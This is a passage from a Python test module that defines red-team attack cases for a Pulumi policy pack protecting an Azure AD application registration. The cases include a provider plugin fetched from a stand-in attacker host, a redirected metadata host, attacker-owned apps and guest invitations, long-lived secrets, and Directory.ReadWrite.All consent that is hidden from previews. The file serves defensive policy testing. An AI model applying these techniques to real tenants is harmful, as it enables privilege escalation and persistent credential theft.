    "ServicePrincipal 'privilege-secure-exchange'",
    ("privilege-secure-exchange",),
)
def imported_exchange_online(app: AppRegistration) -> None:
    """R2-10b: Microsoft's Exchange Online service principal, imported into the stack."""
    azuread.ServicePrincipal(
        "privilege-secure-exchange",
        client_id=EXCHANGE_ONLINE,
        opts=pulumi.ResourceOptions(
            parent=app, import_=f"/servicePrincipals/{fake_guid('service-principal', 'exo')}"
        ),
    )


@attack(
    "r2-02-provider-named-default-with-a-secret-file",
    _CREDENTIALS,
    "chooses whom it signs in as (clientId, clientSecretFilePath)",
    ("default_tier0",),
)
def provider_named_default_with_a_secret_file(app: AppRegistration) -> None:
    """R2-02: a name that looks like the engine's default provider, and an input not listed."""
    azuread.Provider(
        "default_tier0",
        tenant_id=app.tenant_id,
        client_id=app.client_id,
        client_secret_file_path="/tmp/s",
    )


@attack(
    "r2-03-provider-plugin-from-elsewhere",
    _CREDENTIALS,
    "pluginDownloadURL is set (https://evil.example/p/)",
    ("attack-plugin",),
)
def provider_plugin_from_elsewhere(app: AppRegistration) -> None:
    """R2-03: a provider plugin downloaded from the attacker's server."""
    azuread.Provider(
        "attack-plugin", opts=pulumi.ResourceOptions(plugin_download_url="https://evil.example/p/")
    )


@attack(
    "r3-04-provider-with-an-attackers-metadata-host",
    _CREDENTIALS,
    "metadataHost is set (login.attacker.example)",
    ("attack-metadata-host",),
)
def provider_with_an_attackers_metadata_host(app: AppRegistration) -> None:
    """R3-04: an explicit provider that fetches its login and Graph endpoints elsewhere."""
    azuread.Provider(
        "attack-metadata-host",
        metadata_host="login.attacker.example",
        use_oidc=True,
        tenant_id=app.tenant_id,
    )


@attack(
    "r3-04-provider-in-another-cloud",
    _CREDENTIALS,
    "environment is china",
    ("attack-environment",),
)
def provider_in_another_cloud(app: AppRegistration) -> None:
    """R3-04: an explicit provider switched to another cloud's endpoints."""
    azuread.Provider("attack-environment", environment="china")


@attack(
    "r3-07-provider-without-a-parent",
    _CREDENTIALS,
    "a provider without a parent (the default one: the stack's azuread:* config) that "
    "chooses whom it signs in as (clientId, clientSecret)",
    ("attack-parentless",),
)
def provider_without_a_parent(app: AppRegistration) -> None:
    """R3-07: clear the root resource and the provider looks like the engine's default one."""
    from pulumi.runtime.settings import ROOT

    token = ROOT.set(None)
    try:
        azuread.Provider("attack-parentless", client_id=app.client_id, client_secret="s3cr3t")
    finally:
        ROOT.reset(token)


@attack(
    "rt52-second-component-breaks-the-shape",
    "component-shape",
    "2 privilegesecure:index:AppRegistration components in the stack",
    ("privilege-secure-dr",),
)
@attack(
    "rt52-second-component",
    _RECIPIENTS,
    "2 applications request or hold Privilege Secure's permissions",
    ("privilege-secure-dr-application", APPLICATION),
)
def second_component(app: AppRegistration) -> None:
    """RT-52: one line, a second Tier-0 app of the same shape."""
    AppRegistration(
        "privilege-secure-dr",
        {"display_name": "Netwrix Privilege Secure (DR)", "owners": [ATTACKER]},
    )


class _Shelf(pulumi.ComponentResource):
    """R3-10: a home-made component reusing our type token, holding a decoy application."""

    def __init__(self, name: str) -> None:
        super().__init__(types.COMPONENT, name, None, None)
        decoy = azuread.Application(
            f"{name}-application",
            display_name="NPS scratch (dev)",
            sign_in_audience="AzureADMyOrg",
            opts=pulumi.ResourceOptions(parent=self),
        )
        azuread.ApplicationPassword(
            f"{name}-spare",
            application_id=decoy.object_id.apply(
                lambda _oid: f"/applications/{REAL_APPLICATION_OBJECT_ID}"
            ),
            display_name="spare",
            end_date=_soon(),
            opts=pulumi.ResourceOptions(parent=self),
        )
        self.register_outputs({})


@attack(
    "r3-10-decoy-component-with-our-type-token",
    "component-shape",
    "2 privilegesecure:index:AppRegistration components in the stack (AppRegistration "
    "'privilege-secure', AppRegistration 'scratch')",
    ("scratch",),
)
def decoy_component_with_our_type_token(app: AppRegistration) -> None:
    """R3-08/R3-10: a secret on our application, filed under a decoy "component"."""
    _Shelf("scratch")


@_type_not_allowed("rt23-guest-invitation", "azuread:index/invitation:Invitation", "attack-guest")
def guest_invitation(app: AppRegistration) -> None:
    """RT-23."""
    azuread.Invitation(
        "attack-guest",
        user_email_address="attacker@example.com",
        redirect_url="https://myapps.microsoft.com",
    )


@_type_not_allowed(
    "rt41-pre-authorized-client",
    "azuread:index/applicationPreAuthorized:ApplicationPreAuthorized",
    "attack-pre-authorized",
)
def pre_authorized_client(app: AppRegistration) -> None:
    """RT-41."""
    azuread.ApplicationPreAuthorized(
        "attack-pre-authorized",
        application_id=_application_id(app),
        authorized_client_id=fake_guid("client", "attacker"),
        permission_ids=[fake_guid("scope", "impersonate")],
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    *DECLARED,
    Attack(
        "inline-password-on-the-application",
        _CREDENTIALS,
        ("password (the Application's inline client secret) is set",),
        (APPLICATION,),
        before=_transform(types.APPLICATION, _inline_password),
    ),
    Attack(
        "secret-lifetime-widened-in-the-component",
        "client-secret-expiry",
        ("days ahead (the latest allowed today is",),
        ("privilege-secure-client-secret-a", "privilege-secure-client-secret-b"),
        before=_transform(types.APPLICATION_PASSWORD, _far_end_date),
    ),
    Attack(
        "multi-tenant-application",
        "single-tenant-application",
        ("signInAudience is AzureADMultipleOrgs",),
        (APPLICATION,),
        before=_transform(types.APPLICATION, _multi_tenant),
    ),
    Attack(
        "owner-outside-the-allowlist",
        _OWNERS,
        (f"owners[0] {ATTACKER} is not in allowedOwnerObjectIds",),
        (APPLICATION, "privilege-secure-service-principal"),
        overrides=(("owners", f'["{ATTACKER}"]'),),
        pack_config={"owners-from-component": {"allowedOwnerObjectIds": [DEPLOYER_OBJECT_ID]}},
    ),
    Attack(
        "rt09-single-sign-on-on-the-service-principal",
        "no-interactive-sign-in-surface",
        ("preferredSingleSignOnMode is set (saml)",),
        ("privilege-secure-service-principal",),
        before=_transform(types.SERVICE_PRINCIPAL, _single_sign_on),
    ),
    Attack(
        "rt41-exposed-api-on-the-application",
        "no-interactive-sign-in-surface",
        ("api.oauth2PermissionScopes is set",),
        (APPLICATION,),
        before=_transform(types.APPLICATION, _exposed_api),
    ),
    Attack(
        "rt51-lower-case-role-type",
        "graph-application-permissions-allowlist",
        (".type is role; only Role",),
        (APPLICATION,),
        before=_transform(types.APPLICATION, _lower_case_role_type),
    ),
    Attack(
        "rt15-permission-of-the-other-manifest",
        "single-manifest",
        ("4.1 does not have UserAuthenticationMethod.ReadWrite.All",),
        (APPLICATION,),
        before=_transform(types.APPLICATION, _manifest_mix),
    ),
)


def consent_deleted_with_a_decoy(app: AppRegistration) -> None:
    """RT-33: removing both later skips the consent's delete."""
    decoy = _decoy()
    _graph_consent(
        "privilege-secure-consent-kept",
        DIRECTORY_READWRITE_ALL,
        app.service_principal_object_id,
        pulumi.ResourceOptions(parent=app, deleted_with=decoy),
    )


def consent_only_outside_a_preview(app: AppRegistration) -> None:
    """RT-47: nothing in the preview; in `pulumi up`, a consent for the attacker's app."""
    if not pulumi.runtime.is_dry_run():
        _graph_consent("attack-update-only", DIRECTORY_READWRITE_ALL, ATTACKER_SERVICE_PRINCIPAL)


UPDATE_ONLY_ATTACK: Final = Attack(
    "rt47-consent-only-outside-a-preview",
    "declared-by-the-component",
    ("AppRoleAssignment declared outside the privilegesecure:index:AppRegistration component",),
    ("attack-update-only",),
    consent_only_outside_a_preview,
)
"""Invisible to any preview: a resource policy must stop it during the update itself."""

UNSEEN_ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        "rt32-retained-rotation",
        "retainOnDelete",
        ("privilege-secure-client-secret-a sets retainOnDelete",),
        ("privilege-secure-client-secret-a", "privilege-secure-client-secret-b"),
        # RT-31/32: every client secret outlives its removal from the program.
        before=_transform(
            types.APPLICATION_PASSWORD, options=pulumi.ResourceOptions(retain_on_delete=True)
        ),
    ),
    Attack(
        "rt33-consent-deleted-with-a-decoy",
        "deletedWith",
        ("privilege-secure-consent-kept sets deletedWith",),
        ("privilege-secure-consent-kept",),
        consent_deleted_with_a_decoy,
    ),
)
"""What no policy can see (the analyzer protocol does not carry the option): the offline
preview reports it itself (``policy`` names its check there)."""

ATTACKS_BY_ID: Final = {
    attack.id: attack for attack in (*ATTACKS, *UNSEEN_ATTACKS, UPDATE_ONLY_ATTACK)
}
